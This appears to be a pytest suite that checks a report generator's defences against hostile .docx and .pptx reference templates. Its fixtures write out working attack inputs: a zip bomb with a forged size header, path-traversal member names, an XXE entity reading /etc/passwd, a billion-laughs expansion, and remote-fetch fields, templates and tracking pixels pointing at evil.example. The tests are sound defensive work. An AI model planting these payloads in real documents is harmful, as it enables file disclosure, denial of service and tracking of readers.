"""Hostile reference files (templates/<profile>/memo.docx and deck.pptx): each is built here from
a real document rewritten with zipfile, and either refused at its path (exit 1, never 70) or
turned into an output that carries none of its remote content, macros, objects or comments.
Outputs are read back with zipfile + lxml, not with the library that wrote them."""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
import yaml
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from lxml import etree
from pptx import Presentation
from typer.testing import CliRunner

from reportgen.cli import app
from reportgen.errors import RenderError
from reportgen.pipeline import prepare, render
from tests.conftest import FIXTURES, ROOT

BRIEF = FIXTURES / "docx_short.yaml"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
NSDECL = (f'xmlns:w="{W}" xmlns:r="{R}" '
          'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
          'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
          'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
          'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"')
FILE = {"docx": "memo.docx", "pptx": "deck.pptx"}
runner = CliRunner()

XXE = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
       b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-'
       b'properties"><Company>&e;</Company></Properties>')
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE w:fonts [<!ENTITY l0 "ha">'
          + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
          + f']><w:fonts xmlns:w="{W}"><w:font w:name="&l9;"/></w:fonts>').encode()


# ---------------------------------------------------------------------------------------------
# Building references


def memo() -> docx.Document:
    return docx.Document()


def deck():
    prs = Presentation()  # 4:3 with PowerPoint's standard layout names
    prs.slides.add_slide(prs.slide_layouts[0]).shapes.title.text = "A slide of the template"
    return prs


def saved(document) -> bytes:
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def rewrite(data: bytes, changes: dict[str, bytes | None] | None = None,
            edit: dict[str, callable] | None = None) -> bytes:
    """The package with members replaced, added (bytes), removed (None) or edited (a function of
    the member's text)."""
    changes, edit = dict(changes or {}), edit or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            if name in changes:
                value = changes.pop(name)
                if value is not None:
                    dst.writestr(name, value)
            elif name in edit:
                dst.writestr(name, edit[name](src.read(name).decode("utf-8")))
            else:
                dst.writestr(name, src.read(name))
        for name, value in changes.items():
            dst.writestr(name, value)
    return out.getvalue()


def sub(pattern: str, replacement: str, count: int = 1):
    def apply(text: str) -> str:
        new, n = re.subn(pattern, replacement, text, count=count)
        assert n, f"{pattern!r} not found"
        return new
    return apply


def templates_with(tmp_path: Path, fmt: str, data: bytes) -> Path:
    folder = tmp_path / "templates" / "mei"
    folder.mkdir(parents=True)
    shutil.copy(ROOT / "templates" / "mei" / "profile.yaml", folder / "profile.yaml")
    (folder / FILE[fmt]).write_bytes(data)
    return tmp_path / "templates"


def refused(tmp_path: Path, fmt: str, data: bytes, why: str) -> str:
    templates = templates_with(tmp_path, fmt, data)
    with pytest.raises(RenderError) as caught:
        render(prepare(BRIEF, templates), fmt)
    message = str(caught.value)
    assert message.startswith(f"{templates / 'mei' / FILE[fmt]}: "), message
    assert re.search(why, message), message
    return message


def rendered(tmp_path: Path, fmt: str, data: bytes) -> bytes:
    return render(prepare(BRIEF, templates_with(tmp_path, fmt, data)), fmt).data


def brief_links() -> set[str]:
    """Every URL of the brief and the profile: the only external targets an output may have."""
    found: set[str] = set()

    def walk(value) -> None:
        if isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)
        elif isinstance(value, str):  # a URL alone or in a [text](url) link
            found.update(re.findall(r"(?:https?|mailto):[^\s()<>\]]+", value))

    for path in (BRIEF, ROOT / "templates" / "mei" / "profile.yaml"):
        walk(yaml.safe_load(path.read_text("utf-8")))
    return found


def assert_clean(data: bytes) -> dict[str, bytes]:
    """No external relationship but the brief's links, no macro, ActiveX, OLE, custom XML or
    comment part, no DTD; returns the members."""
    links = brief_links()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        members = {n: z.read(n) for n in z.namelist()}
    for name, body in members.items():
        assert not re.search(r"vbaProject|vbaData|activeX|embeddings|customXml|comments|people",
                             name, re.I), name
        if name.endswith(".rels"):
            for rel in etree.fromstring(body).iter(f"{{{PR}}}Relationship"):
                if rel.get("TargetMode") == "External":
                    assert rel.get("Type").endswith("/hyperlink"), (name, rel.attrib)
                    assert rel.get("Target") in links, (name, rel.get("Target"))
        if name.endswith((".xml", ".rels")):
            assert b"<!DOCTYPE" not in body, name
    types = members["[Content_Types].xml"].decode()
    assert "macroEnabled" not in types and "vbaProject" not in types
    return members


# ---------------------------------------------------------------------------------------------
# Item 4: zip bombs and oversized or unsafe zips


def zeros_member(size: int) -> bytes:
    """A deflate stream of `size` zero bytes (a few hundred KB for hundreds of MB)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(1 << 20)
    parts = [comp.compress(block) for _ in range(size >> 20)]
    return b"".join(parts) + comp.flush()


def with_raw_member(data: bytes, name: str, deflated: bytes, size: int, crc: int,
                    declared: int | None = None) -> bytes:
    """`data` plus a member whose compressed bytes are given; `declared` forges the size the
    central directory claims (a lying header)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        info.file_size, info.compress_size, info.CRC = size, len(deflated), crc
        dst.fp.seek(dst.start_dir)
        info.header_offset = dst.start_dir
        dst.fp.write(info.FileHeader(zip64=False))
        dst.fp.write(deflated)
        dst.start_dir = dst.fp.tell()
        if declared is not None:
            info.file_size = declared
        dst.filelist.append(info)
        dst.NameToInfo[name] = info
        dst._didModify = True
    return out.getvalue()


BOMB = 300 * 2**20


@pytest.fixture(scope="module")
def bomb_member() -> tuple[bytes, int]:
    crc = zlib.crc32(bytes(1 << 20))
    for _ in range((BOMB >> 20) - 1):
        crc = zlib.crc32(bytes(1 << 20), crc)
    return zeros_member(BOMB), crc


@pytest.mark.parametrize("fmt", ["docx", "pptx"])
def test_a_reference_that_unpacks_to_hundreds_of_megabytes_is_refused(tmp_path, fmt,
                                                                      bomb_member):
    deflated, crc = bomb_member
    base = saved(memo() if fmt == "docx" else deck())
    data = with_raw_member(base, "docProps/zeros.xml", deflated, BOMB, crc)
    assert len(data) < 1_000_000
    refused(tmp_path, fmt, data, r"unpacks to more than 50 MB")


def test_a_zip_bomb_whose_directory_lies_about_its_size_is_refused_without_unpacking_it(
        tmp_path, bomb_member):
    deflated, crc = bomb_member
    data = with_raw_member(saved(memo()), "word/styles2.xml", deflated, BOMB, crc, declared=1000)
    refused(tmp_path, "docx", data, r"its zip is damaged at word/styles2\.xml")


def test_the_zip_bomb_is_refused_by_the_cli_with_exit_1_and_little_memory(tmp_path,
                                                                          bomb_member):
    deflated, crc = bomb_member
    data = with_raw_member(saved(memo()), "word/zeros.xml", deflated, BOMB, crc)
    templates = templates_with(tmp_path, "docx", data)
    script = (
        "import resource, subprocess, sys\n"
        "p = subprocess.run([sys.executable, '-m', 'reportgen', 'docx', sys.argv[1], '--out', "
        "sys.argv[2], '--templates', sys.argv[3]], capture_output=True, text=True)\n"
        "print(p.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
        "print(p.stderr)\n")
    run = subprocess.run([sys.executable, "-c", script, str(BRIEF), str(tmp_path / "out"),
                          str(templates)], capture_output=True, text=True, timeout=120)
    code, maxrss_kb = map(int, run.stdout.split("\n", 1)[0].split())
    stderr = run.stdout.split("\n", 1)[1]
    assert code == 1, stderr
    assert "memo.docx: the reference memo cannot be used" in stderr
    assert maxrss_kb < 300 * 1024, f"{maxrss_kb / 1024:.0f} MB"


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/evil.xml", "word/../../evil.xml",
                                  "word\\evil.xml"])
def test_a_member_named_outside_the_package_is_refused(tmp_path, name):
    data = rewrite(saved(memo()), {name: b"<x/>"})
    refused(tmp_path, "docx", data, r"unsafe member name")


def test_a_reference_with_thousands_of_members_is_refused(tmp_path):
    data = rewrite(saved(deck()), {f"ppt/junk/{i}.xml": b"<x/>" for i in range(1001)})
    refused(tmp_path, "pptx", data, r"has 1,0\d\d members; at most 1,000")


@pytest.mark.parametrize("fmt", ["docx", "pptx"])
def test_a_reference_with_a_bad_crc_is_refused(tmp_path, fmt):
    original = saved(memo() if fmt == "docx" else deck())
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(original)) as src, zipfile.ZipFile(out, "w") as dst:
        for name in src.namelist():  # stored, so one flipped byte is a CRC error, not zlib's
            dst.writestr(name, src.read(name), zipfile.ZIP_STORED)
    data = bytearray(out.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo("docProps/app.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[start + 60] ^= 0x20
    refused(tmp_path, fmt, bytes(data), r"damaged at docProps/app\.xml.*CRC")


# ---------------------------------------------------------------------------------------------
# Item 6: malformed XML and structures


@pytest.mark.parametrize("fmt", ["docx", "pptx"])
@pytest.mark.parametrize("attack", ["xxe", "laughs"])
def test_xml_with_a_dtd_is_refused_before_any_entity_is_expanded(tmp_path, fmt, attack):
    if attack == "xxe":
        part, payload = "docProps/app.xml", XXE
    else:
        part = "word/fontTable.xml" if fmt == "docx" else "ppt/presProps.xml"
        payload = LAUGHS
    data = rewrite(saved(memo() if fmt == "docx" else deck()), {part: payload})
    message = refused(tmp_path, fmt, data, rf"{re.escape(part)} declares a DTD")
    assert "root:" not in message  # nothing of /etc/passwd


def test_a_memo_without_page_setup_is_refused(tmp_path):
    data = rewrite(saved(memo()), edit={"word/document.xml": sub(r"<w:sectPr.*</w:sectPr>",
                                                                 "")})
    refused(tmp_path, "docx", data, r"word/document\.xml has no page set-up")


@pytest.mark.parametrize(("size", "why"), [('cx="0" cy="0"', r"sldSz/@cx is 0, outside"),
                                           ('cx="wide" cy="1"', r"'wide', not a whole number")])
def test_a_deck_with_a_bad_slide_size_is_refused(tmp_path, size, why):
    data = rewrite(saved(deck()), edit={
        "ppt/presentation.xml": sub(r'<p:sldSz cx="\d+" cy="\d+"', f"<p:sldSz {size}")})
    refused(tmp_path, "pptx", data, why)


def test_a_placeholder_whose_idx_is_not_a_number_is_refused(tmp_path):
    data = rewrite(saved(deck()), edit={
        "ppt/slideLayouts/slideLayout2.xml": sub(r'idx="1"', 'idx="abc"')})
    refused(tmp_path, "pptx", data, r"slideLayout2\.xml: ph/@idx is 'abc', not a whole number")


@pytest.mark.parametrize(("fmt", "rels"), [("docx", "word/_rels/document.xml.rels"),
                                           ("pptx", "ppt/_rels/presentation.xml.rels")])
def test_a_relationship_without_a_target_is_refused(tmp_path, fmt, rels):
    data = rewrite(saved(memo() if fmt == "docx" else deck()),
                   edit={rels: sub(r' Target="[^"]*"', "")})
    refused(tmp_path, fmt, data, rf"{re.escape(rels)}: the relationship rId\d+ has no Target")


@pytest.mark.parametrize(("fmt", "template", "why"), [
    ("pptx", "presentationml.template.main+xml", r"PowerPoint template \(\.potx\)"),
    ("docx", "wordprocessingml.template.main+xml", r"Word template \(\.dotx\)")])
def test_a_template_file_is_refused_with_how_to_save_it(tmp_path, fmt, template, why):
    main = "presentationml.presentation" if fmt == "pptx" else "wordprocessingml.document"
    data = rewrite(saved(memo() if fmt == "docx" else deck()), edit={
        "[Content_Types].xml": sub(re.escape(f"{main}.main+xml"), template)})
    message = refused(tmp_path, fmt, data, why)
    assert f"save it as a .{fmt} file" in message


def test_a_header_field_that_fetches_a_remote_picture_is_refused(tmp_path):
    ref = memo()
    p = ref.sections[0].header.paragraphs[0]
    p._p.append(etree.fromstring(
        f'<w:fldSimple {NSDECL} w:instr=\' INCLUDEPICTURE "http://evil.example/p.png" \\d \'>'
        f'<w:r><w:t>x</w:t></w:r></w:fldSimple>'))
    refused(tmp_path, "docx", saved(ref), r"word/header1\.xml has a INCLUDEPICTURE field")


# ---------------------------------------------------------------------------------------------
# Item 5: what a reference passes on to readers


def test_a_memos_remote_template_link_and_external_picture_do_not_reach_the_output(tmp_path):
    ref = memo()
    settings = ref.part._settings_part
    rid = settings.relate_to("https://evil.example/t.dotm", f"{R}/attachedTemplate",
                             is_external=True)
    settings.element.append(etree.fromstring(f'<w:attachedTemplate {NSDECL} r:id="{rid}"/>'))
    header = ref.sections[0].header
    header.paragraphs[0].text = "Organisation header"
    pixel = header.part.relate_to("http://evil.example/pixel.png", RT.IMAGE, is_external=True)
    passwd = header.part.relate_to("file:///etc/passwd", RT.HYPERLINK, is_external=True)
    header.paragraphs[0]._p.append(etree.fromstring(
        f'<w:hyperlink {NSDECL} r:id="{passwd}"><w:r><w:t>click</w:t></w:r></w:hyperlink>'))
    header.paragraphs[0]._p.append(etree.fromstring(
        f'<w:r {NSDECL}><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/>'
        f'<wp:docPr id="9" name="pixel"/><a:graphic><a:graphicData uri="http://schemas.'
        f'openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="9" '
        f'name="pixel"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="{pixel}"/>'
        f'</pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline>'
        f'</w:drawing></w:r>'))
    data = saved(ref)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert any(n.startswith("customXml/") for n in z.namelist())  # python-docx's default
    members = assert_clean(rendered(tmp_path, "docx", data))
    assert b"attachedTemplate" not in members["word/settings.xml"]
    out_header = next(n for n in members if re.fullmatch(r"word/header\d+\.xml", n))
    assert b"Organisation header" in members[out_header]
    assert b"r:link" not in members[out_header]
    out = docx.Document(io.BytesIO(rendered(tmp_path / "again", "docx", data)))
    assert out.sections[0].header.paragraphs[0].text.startswith("Organisation header")


def test_a_macro_enabled_memo_with_comments_gives_a_plain_docx(tmp_path):
    comments = (f'<w:comments {NSDECL}><w:comment w:id="0" w:author="x"><w:p><w:r><w:t>secret'
                f'</w:t></w:r></w:p></w:comment></w:comments>').encode()
    data = rewrite(saved(memo()), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro",
                                   "word/comments.xml": comments}, edit={
        "[Content_Types].xml": sub(
            r"</Types>",
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            '<Override PartName="/word/comments.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.wordprocessingml.comments+xml"/></Types>'),
        "word/_rels/document.xml.rels": sub(
            r"</Relationships>",
            '<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/'
            'relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId91" '
            f'Type="{R}/comments" Target="comments.xml"/></Relationships>')})
    data = rewrite(data, edit={"[Content_Types].xml": lambda t: t.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml")})
    members = assert_clean(rendered(tmp_path, "docx", data))
    assert b"secret" not in b"".join(members.values())
    assert "wordprocessingml.document.main+xml" in members["[Content_Types].xml"].decode()


def deck_with_layout_content(prs, xml: str) -> None:
    layout = prs.slide_layouts[1]
    layout.shapes._spTree.append(etree.fromstring(xml))


def test_a_decks_macros_remote_picture_and_local_file_link_do_not_reach_the_output(tmp_path):
    prs = deck()
    layout = prs.slide_layouts[1]
    pixel = layout.part.relate_to("http://evil.example/pixel.png", RT.IMAGE, is_external=True)
    passwd = layout.part.relate_to("file:///etc/passwd", RT.HYPERLINK, is_external=True)
    deck_with_layout_content(prs, (
        f'<p:pic {NSDECL}><p:nvPicPr><p:cNvPr id="90" name="pixel"><a:hlinkClick '
        f'r:id="{passwd}"/></p:cNvPr><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
        f'<a:blip r:link="{pixel}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr>'
        f'<a:xfrm><a:off x="0" y="0"/><a:ext cx="12700" cy="12700"/></a:xfrm><a:prstGeom '
        f'prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'))
    data = rewrite(saved(prs), {"ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}, edit={
        "[Content_Types].xml": lambda t: t.replace(
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml").replace(
            "</Types>", '<Override PartName="/ppt/vbaProject.bin" ContentType="application/'
                        'vnd.ms-office.vbaProject"/></Types>'),
        "ppt/_rels/presentation.xml.rels": sub(
            r"</Relationships>",
            '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/'
            'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')})
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert b"TargetMode=\"External\"" in z.read("ppt/slideLayouts/_rels/slideLayout2.xml.rels")
    out = rendered(tmp_path, "pptx", data)
    members = assert_clean(out)
    assert "presentationml.presentation.main+xml" in members["[Content_Types].xml"].decode()
    layout_xml = members["ppt/slideLayouts/slideLayout2.xml"]
    assert b"r:link" not in layout_xml and b"hlinkClick" not in layout_xml
    reopened = Presentation(io.BytesIO(out))
    assert "A slide of the template" not in [
        s.shapes.title.text for s in reopened.slides if s.shapes.title is not None]


def test_the_cli_refuses_a_hostile_deck_with_exit_1_naming_it(tmp_path):
    data = rewrite(saved(deck()), {"docProps/app.xml": XXE})
    templates = templates_with(tmp_path, "pptx", data)
    result = runner.invoke(app, ["pptx", str(BRIEF), "--out", str(tmp_path / "out"),
                                 "--templates", str(templates)])
    assert result.exit_code == 1, result.output
    assert f"{templates / 'mei' / 'deck.pptx'}: the reference deck cannot be used: " \
           f"docProps/app.xml declares a DTD" in result.output
    assert not (tmp_path / "out" / "docx_short.pptx").exists()


@pytest.mark.parametrize("fmt", ["docx", "pptx"])
@pytest.mark.parametrize("kind, make", [
    ("a named pipe (FIFO)", lambda path: os.mkfifo(path)),
    ("a folder", lambda path: path.mkdir()),
    ("a device", lambda path: path.symlink_to("/dev/zero")),
])
def test_a_reference_that_is_no_regular_file_is_an_error_not_the_builtin_look(
        tmp_path, fmt, kind, make):
    folder = tmp_path / "templates" / "mei"
    folder.mkdir(parents=True)
    shutil.copy(ROOT / "templates" / "mei" / "profile.yaml", folder / "profile.yaml")
    make(folder / FILE[fmt])
    with pytest.raises(RenderError) as caught:
        render(prepare(BRIEF, tmp_path / "templates"), fmt)
    assert str(caught.value) == (
        f"{folder / FILE[fmt]}: is {kind}, not a regular file; a reference {FILE[fmt]} must be "
        "a file, or absent for the built-in look")
